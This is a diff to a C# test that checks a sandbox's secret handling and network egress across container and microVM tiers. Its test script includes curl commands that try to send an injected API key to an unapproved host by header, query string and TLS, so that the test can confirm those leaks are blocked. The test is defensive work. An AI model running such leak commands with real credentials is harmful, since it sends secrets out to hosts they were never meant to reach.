@@ -28,21 +28,24 @@ public sealed class EgressSecretTests(EgressSession session) : IClassFixture<Egr
         "print(hits)\n" +
         "sys.exit(1 if hits or r.returncode > 1 else 0)";
 
-    [Fact]
-    public async Task Secret_ReachesItsHostAsTheRealValue_IsBlockedElsewhere_AndIsNowhereInTheSandbox()
+    [Theory]
+    [InlineData("container")]
+    [InlineData("microvm")]
+    public async Task Secret_ReachesItsHostAsTheRealValue_IsBlockedElsewhere_AndIsNowhereInTheSandbox(string tier)
     {
         var inet = session.Internet;
         var real = "sk_live_" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16));
         var id = await session.CreateAsync(
             "network: { allow: [ \"pkgs.test\", \"api.test\" ] }\n" +
             "secrets:\n  STRIPE_KEY: { from: \"env:AIRLOCK_TEST_STRIPE\", hosts: [ \"api.test\" ] }\n",
+            tier,
             env: new Dictionary<string, string> { ["AIRLOCK_TEST_STRIPE"] = real });
         // The search runs with the value reversed on its command line, so the search itself never holds it in argv.
         var reversed = new string(real.Reverse().ToArray());
         var script = EgressSession.StepFunction +
             "step placeholder bash -c 'echo $STRIPE_KEY'\n" +
-            "step api curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge\n" +
-            "step api_direct noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge-direct\n" +
+            $"step api curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge/{id}\n" +
+            $"step api_direct noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://api.test/charge-direct/{id}\n" +
             "step leak_header noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" http://pkgs.test/leak-header\n" +
             "step leak_query curl -fsS --max-time 10 \"http://pkgs.test/leak-query?k=$STRIPE_KEY\"\n" +
             "step leak_tls noproxy curl -fsS --max-time 10 -H \"Authorization: Bearer $STRIPE_KEY\" https://pkgs.test/leak-tls\n" +
@@ -58,7 +61,8 @@ public sealed class EgressSecretTests(EgressSession session) : IClassFixture<Egr
         Assert.DoesNotContain(real, results["placeholder"].Output, StringComparison.Ordinal);
         Assert.True(results["api"].Exit == 0, report);
         Assert.True(results["api_direct"].Exit == 0, report);
-        var charges = inet.Log("requests.log").Where(r => r.GetProperty("path").GetString()!.StartsWith("/charge", StringComparison.Ordinal)).ToList();
+        // The test internet is shared by the tiers' rows: this sandbox's requests carry its id.
+        var charges = inet.Log("requests.log").Where(r => r.GetProperty("path").GetString()!.StartsWith("/charge", StringComparison.Ordinal) && r.GetProperty("path").GetString()!.EndsWith(id, StringComparison.Ordinal)).ToList();
         Assert.Equal(2, charges.Count);
         Assert.All(charges, r => Assert.Equal($"Bearer {real}", r.GetProperty("headers").GetProperty("Authorization").GetString()));
 
@@ -76,9 +80,10 @@ public sealed class EgressSecretTests(EgressSession session) : IClassFixture<Egr
         Assert.Contains(audit, r => r.GetProperty("kind").GetString() == "anomaly" && r.GetProperty("details").GetProperty("reason").GetString() == "canary");
         Assert.DoesNotContain(real, string.Join('\n', audit.Select(r => r.GetRawText())), StringComparison.Ordinal);
 
-        // The process table, searched from the host for the sandbox's processes: no environ or cmdline holds it.
+        // The process table, searched from the host for the sandbox's processes (a microVM's: QEMU and its bridge): no
+        // environ or cmdline holds it.
         var pids = Directory.EnumerateFiles("/sys/fs/cgroup", "cgroup.procs", SearchOption.AllDirectories)
-            .Where(f => f.Contains($"/airlock/{id}/", StringComparison.Ordinal))
+            .Where(f => f.Contains($"/airlock/{id}/", StringComparison.Ordinal) || f.Contains($"/airlock-vmm/{id}/", StringComparison.Ordinal))
             .SelectMany(f => File.ReadAllLines(f)).Distinct().ToList();
         Assert.NotEmpty(pids);
         foreach (var pid in pids)
